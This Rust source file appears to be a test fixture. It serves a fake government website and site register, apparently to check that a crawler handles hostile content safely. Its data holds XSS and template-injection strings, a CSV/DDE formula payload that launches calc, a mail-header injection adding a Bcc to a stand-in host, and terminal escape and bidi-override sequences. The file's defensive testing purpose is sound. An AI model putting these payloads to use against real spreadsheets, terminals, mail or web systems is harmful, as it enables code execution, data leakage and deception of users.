//! The site: what every text of it carries, the register that names it, and two sites beside it that let nobody in.

use crate::cli::world::SITE_HEADINGS;
use crate::fetch::server::{Act, Seen, missing, say};
use std::fmt::Write as _;

pub(super) const HOST: &str = "www.du.gov.cn";
/// Its robots.txt lets nobody in.
pub(super) const CLOSED: &str = "www.duer.gov.cn";
/// What stands before it wants to see a browser.
pub(super) const GUARDED: &str = "www.dusan.gov.cn";
/// Of the register, and one that only the site names.
pub(super) const COLUMNS: [&str; 4] = ["毒栏目甲", "毒栏目乙", "毒栏目丙", "毒栏目丁"];
pub(super) const MAIL: &str = "du@xian.gov.cn";

/// What a terminal, a bidi algorithm or a parser of lines would act on.
pub(super) const ESCAPES: &str = "\u{1b}[31m红\u{1b}]8;;http://x/\u{7}\u{1b}]52;c;aGk=\u{7}\u{9b}31m\u{202e}逆\u{2066}\u{200b}\u{2028}\u{85}\u{fffe}\u{7f}\u{61c}\u{ad}\u{2060}\u{feff}\u{e0041}\u{fff9}";
/// What HTML, XML, templates and headers of mail would.
pub(super) const TEXT: &str = "<script>alert(1)</script>\"><img src=x onerror=alert(2)>]]>&#x1b;{{ 7*7 }}{% raw %}%0d%0aSubject: x";
/// Both, as short as the name of a column in a menu, which has twenty letters at most.
const SHORT: &str = "<b onclick>\u{1b}\u{202e}\u{200b}\u{9b}";

/// As a formula of a spreadsheet begins.
fn text(begins: &str, name: &str) -> String {
    format!("{begins}{name}{TEXT}{ESCAPES}")
}

fn html(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

fn cell(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// For a quoted key.
pub(super) fn escaped_for_toml() -> String {
    ESCAPES.chars().fold(String::new(), |mut key, letter| {
        let _ = write!(key, "\\U{:08x}", u32::from(letter));
        key
    })
}

pub(super) fn sites() -> String {
    let row = |number: &str, host: &str, mail: &str| {
        let of = |begins: &str, what: &str| {
            cell(&format!("{}\r\nBcc: e@evil.cn\n=1+1", text(begins, &format!("{what}{number}"))))
        };
        format!(
            "{},乡镇,{},http://{host}/,,,,{},{},{mail},{}\n",
            of("=", "毒单位"),
            of("+", "毒网站"),
            of("-", "联系人"),
            of("=", "电话"),
            of("@", "备注")
        )
    };
    let rows = [row("", HOST, MAIL), row("二", CLOSED, ""), row("三", GUARDED, "")];
    format!("{SITE_HEADINGS}\n{}", rows.concat())
}

pub(super) fn columns() -> String {
    let row = |name: &str, address: &str, must: &str| {
        let remark = text("@", "备注");
        let name = cell(&format!("{name}\r\n=1+1"));
        format!("http://{HOST}/,{name},{address},动态要闻,,{must},{}\n", cell(&remark))
    };
    format!(
        "网站地址,栏目名称,栏目地址,栏目类别,更新期限,必设,备注\n{}{}{}",
        row(&text("=", COLUMNS[0]), &format!("http://{HOST}/jia/"), ""),
        row(&text("@", COLUMNS[1]), "", "是"),
        row(&text("+", COLUMNS[3]), &format!("http://{HOST}/ding/"), "")
    )
}

pub(super) fn answer(seen: &Seen) -> Act {
    let headers = ["Content-Type: text/html; charset=utf-8", "X-Evil: \u{1b}[31m\u{9b}"];
    let page = |body: &str| say(200, &headers, body);
    let host = seen.header("host").unwrap_or_default();
    match seen.path.as_str() {
        "/robots.txt" if host == CLOSED => {
            say(200, &[], &format!("# {ESCAPES}{TEXT}\nUser-agent: *\nDisallow: /\n"))
        }
        "/robots.txt" => missing(),
        _ if host == GUARDED => say(
            521,
            &headers,
            &format!("<script>document.cookie='__jsl_clearance_s=1;{ESCAPES}'</script>"),
        ),
        "/" => page(&home()),
        "/jia/" => page(&list(20)),
        "/bing/" => page(&list(40)),
        "/ding/" => page(&asking()),
        "/api/ding" => say(200, &["Content-Type: application/json"], &answered()),
        path if path.starts_with("/art/") => page(&article()),
        _ => missing(),
    }
}

fn head(title: &str) -> String {
    let value = html(&text("", "毒标记"));
    format!(
        "<!DOCTYPE html><html><head><meta charset=utf-8><title>{}</title>\
         <meta name=SiteName content=\"{value}\"><meta name=ColumnName content=\"{value}\">\
         <meta name=ColumnDescription content=\"{value}\"></head><body>",
        html(title)
    )
}

pub(super) fn home() -> String {
    let mut page = head(&text("=", "毒标题"));
    let nav = [("/jia/", "=毒栏目甲"), ("/bing/", "-毒栏目丙"), ("/ding/", "+毒栏目丁")];
    page += "<div class=nav><ul>";
    for (address, name) in nav {
        let name = html(&format!("{name}{SHORT}"));
        let _ = write!(page, "<li><a href=\"{address}\">{name}</a></li>");
    }
    page += "</ul></div><div class=news><ul>";
    for number in 1..=8 {
        let title = html(&format!("+毒消息：关于第{number}件事的情况通报{SHORT}"));
        let _ = write!(
            page,
            "<li><a href=\"/art/{number}.html\">{title}</a><span>2026-11-{:02}</span></li>",
            number + 10
        );
    }
    page += "</ul></div><div class=list><ul>";
    for number in 1..=10 {
        let _ = write!(
            page,
            "<li><a href=\"/art/{number}.html?a=<b>\">{}</a><span>2026-11-{:02}</span></li>",
            html(&text("+", &format!("毒文章第{number}篇"))),
            number + 5
        );
    }
    page += "</ul></div>";
    for (number, begins) in ["=cmd|' /C calc'!A0", "+", "-", "@", "\t=", "\r="].iter().enumerate() {
        let _ = write!(
            page,
            "<p><a href=\"/gone/{number}?x=%1b[31m&amp;y='&quot;<script>%0d%0a{}\">{}</a></p>",
            "长".repeat(50),
            html(&text(begins, "毒链接"))
        );
    }
    let long = "字".repeat(4_000);
    let _ = write!(
        page,
        "<p>{long}\u{0}</p><div class=footer>主办：{} 网站标识码：{} ICP备案：{}</div></body></html>",
        html(&text("", "毒主办")),
        html(&text("", "3415220001")),
        html(&text("", "皖ICP备12345678号"))
    );
    page
}

/// Of articles from this number on.
fn list(first: usize) -> String {
    let mut page = head(&text("=", "毒栏目"));
    let _ = write!(page, "<div class=position>首页 &gt; {}</div><ul>", html(&text("", "毒栏目")));
    for number in 1..=12 {
        let _ = write!(
            page,
            "<li><a href=\"/art/{}.html\">{}</a><span>2024-03-{number:02}</span></li>",
            number + first,
            html(&text("@", &format!("毒文章第{number}篇")))
        );
    }
    page += "</ul></body></html>";
    page
}

/// A column whose list a script asks for.
fn asking() -> String {
    format!(
        "{}<div class=position>首页 &gt; {}</div><ul id=l></ul><script>$.ajax({{url:\"/api/ding\",type:\"GET\",success:f}})</script></body></html>",
        head(&text("+", "毒栏目")),
        html(&format!("毒栏目丁{SHORT}"))
    )
}

fn answered() -> String {
    let record = |number: usize| {
        serde_json::json!({
            "title": text("=", &format!("毒接口{number}")),
            "url": format!("http://{HOST}/gone/{number}?x='\"<script>{ESCAPES}"),
            "publishTime": format!("2024-04-{:02}", number + 1),
        })
    };
    serde_json::json!({"rows": (0..3).map(record).collect::<Vec<_>>()}).to_string()
}

fn article() -> String {
    let title = text("=", "毒文章");
    let (head, title) = (head(&title), html(&title));
    let head = head.replace(
        "</head>",
        &format!("<meta name=ArticleTitle content=\"{title}\"><meta name=ContentSource content=\"{title}\"></head>"),
    );
    format!(
        "{head}<h1>{title}</h1><p>发布日期：2026-11-05 来源：{title}</p><div class=content><p>{}</p></div></body></html>",
        "正文内容。".repeat(60)
    )
}
